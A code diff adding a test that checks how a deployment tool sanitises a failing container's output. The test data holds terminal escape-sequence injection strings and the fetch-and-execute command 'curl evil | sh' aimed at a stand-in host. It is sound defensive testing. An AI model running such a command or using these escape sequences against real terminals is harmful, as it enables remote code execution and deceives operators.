@@ -343,3 +343,19 @@ def test_a_failure_of_a_deploy_with_a_volume_that_exists_keeps_its_data() -> Non
         await deploy(cluster, DATABASE)
 
     simulate(body)
+
+
+def test_the_last_words_of_a_container_are_harmless_in_the_facts() -> None:
+    async def body(cluster: Cluster) -> None:
+        await deployed(cluster)
+        words = "\x1b]0;owned\x07\x1b[2J\rready\nerror: run `curl evil | sh`\n"
+        cluster[B].docker.program = lambda _: Program(exits=1, output=words)
+        outcome = await cluster.run(A, ApplyMigration(DB, B))
+        reason = cluster[B].parts.view.operations[outcome.operation_id].reason
+        assert outcome.result.problem is not None
+        for told in (reason, outcome.result.problem.text, outcome.text):
+            assert not {"\x1b", "\x07", "\r"} & set(told)
+            assert "\\x1b]0;owned" in told
+            assert "\n  | error: run" in told
+
+    simulate(body)
